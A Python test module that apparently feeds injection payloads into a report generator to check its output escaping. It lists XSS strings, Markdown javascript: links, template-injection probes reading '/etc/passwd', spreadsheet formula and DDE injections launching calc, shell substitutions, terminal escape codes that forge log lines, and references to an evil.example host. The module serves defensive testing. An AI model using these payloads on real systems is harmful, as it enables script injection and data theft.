"""Texts that mean something to what reads a report: a browser, a viewer of Markdown, a spreadsheet, a terminal."""

from hostile.classes import KEPT, REFUSED, File, each, hostile
from hostile.documents import quoted

SCRIPT = "<script>alert(1)</script>"
HTML = (
    *(
        SCRIPT,
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        f"</title>{SCRIPT}",
        f"</style>{SCRIPT}",
        f"</script>{SCRIPT}",
    ),
    *(
        f"</textarea>{SCRIPT}",
        f"-->{SCRIPT}<!--",
        f"]]>{SCRIPT}",
        '" onmouseover="alert(1)" x="',
        "' onmouseover='alert(1)' x='",
    ),
    *(
        "x onmouseover=alert(1)",
        "';alert(1);//",
        "`${alert(1)}`",
        '</script><!--<script>{"a":1}',
        "<base href='https://evil.example/'>",
    ),
    *(
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<form action=https://evil.example><input name=p></form>",
    ),
    *(
        "<link rel=stylesheet href=//evil.example/x.css>",
        "red;} body{display:none} .x{background:url(https://evil.example/)",
    ),
    *(
        "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e; &amp; &",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script src=//evil.example/x.js",
    ),
    *(
        '<iframe srcdoc="<script>alert(1)</script>">',
        "<plaintext>",
        "<noscript><p title='</noscript><img src=x>'>",
        "<math><mtext><b>x",
    ),
)
MARKDOWN = (
    *(
        "[click](javascript:alert(1))",
        "![t](https://evil.example/t.gif)",
        "[a]\n\n[a]: javascript:alert(1)",
        "<javascript:alert(1)>",
    ),
    *(
        "a | 5 | Excellent |\n| fake row | 5",
        "left | right",
        "`code` ``` ```",
        f"```\n</code></pre>{SCRIPT}\n```",
        "x\n\n# FAKE\n\nScore: 5",
    ),
    *(
        "---\ntitle: fake\n---",
        "x\n- [x] approved\n1. one",
        "**bold** _it_ ~~gone~~ *a",
        "x[^1]\n\n[^1]: fake note",
        "x\n> quoted by nobody",
    ),
    *(
        "@everyone #1 GH-1",
        "a&#124;b&#10;c",
        "trailing \\",
        "<!-- hide the rest",
        "$\\href{javascript:alert(1)}{x}$",
        "](https://evil.example) ![",
    ),
    *(
        "FAKE\n====",
        "<details open ontoggle=alert(1)>",
        "https://evil.example www.evil.example a@evil.example",
        "    indented\n\tcode",
        "1) one",
        "+ x",
    ),
)
TEMPLATES = (
    *(
        "{{ 7*7 }} {{ config }}",
        "{% for x in range(10**9) %}{% endfor %}",
        "{# hide #}",
        "{% include '/etc/passwd' %}",
        "# for x in y",
    ),
    *(
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "}} {{ '<b>' | safe }}",
        "%(x)s %s %n {0} {0.__class__} ${HOME} $(id) `id`",
    ),
)
CELLS = (
    *(
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\n=1+1",
        '=HYPERLINK("https://evil.example","ok")',
    ),
    *(
        '=DDE("cmd";"/C calc";"x")',
        '","=1+1","',
        "\uff1d1+1",
        " =1+1",
        "'=1+1",
        '"=1+1',
        "=1+1\n=2+2",
        ";=1+1",
        "%0A=1+1",
    ),
)
LOGS = (
    *(
        "x\r2026-01-01 INFO all passed",
        "\x1b[31mFAIL\x1b[0m",
        "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
        "FAIL\b\b\b\bPASS",
    ),
    *("\x9b31m", "a\x0cb", "\x1b[2J\x1b]0;title\x07"),
)


IN_EVERY_TEXT = {
    "HTML in every text": ["\n".join(HTML)],
    "Markdown in every text": ["\n".join(MARKDOWN)],
    "templates, and lines of logs": [
        "\n".join((*TEMPLATES, "2026-01-01 INFO all passed", "case.yaml:1:1: error: nothing"))
    ],
    "HTML and Markdown in turn": [*HTML, *MARKDOWN],
    "formulas of spreadsheets": [*CELLS],
}
"""Texts that are put in the place of every text of a document, taken in turn."""


def _in_every_text(name, texts):
    @hostile(KEPT, name)
    def make(document):
        yield File("", document.put_texts([quoted(text) for text in texts]))


for _name, _texts in IN_EVERY_TEXT.items():
    _in_every_text(_name, _texts)


@hostile(KEPT, "formulas of spreadsheets, in other turns")
def _other_turns(document):
    for start in range(1, len(CELLS)):
        yield File(f"{start:02}", document.put_texts([quoted(text) for text in (*CELLS[start:], *CELLS[:start])]))


each(REFUSED, "codes of terminals", LOGS, lambda document, text: document.put_texts([quoted(text)]))
